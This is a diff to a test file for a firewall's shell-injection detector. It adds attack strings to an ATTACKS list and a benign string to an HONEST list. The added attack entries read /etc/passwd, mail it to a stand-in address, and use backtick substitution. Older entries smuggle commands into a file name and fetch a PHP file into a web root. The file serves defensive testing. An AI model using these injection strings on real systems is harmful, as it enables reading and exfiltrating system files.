@@ -5,6 +5,9 @@ import { detectShell } from "../../../../../runtime/primitives/waf/detect/shell.
 import { scaled } from "../../../../helpers/scale.ts";
 
 const ATTACKS = [
+  "|head -3 /etc/passwd",
+  "|mail a@b.example < /etc/passwd",
+  "/items/`cat /etc/passwd`",
   'report.pdf" ; id ; "',
   "--output=/var/www/x.php http://a.example",
   ";w`echo h`o",
@@ -79,6 +82,7 @@ const ATTACKS = [
   "whoami |",
 ];
 const HONEST = [
+  "head -3 of it",
   "java.lang.E: x\n\tat java.base/java.lang.Thread.run(Thread.java:83)",
   "see <https://a.example|link> &amp; more",
   "kubectl get nodes -o wide | grep -v Ready",
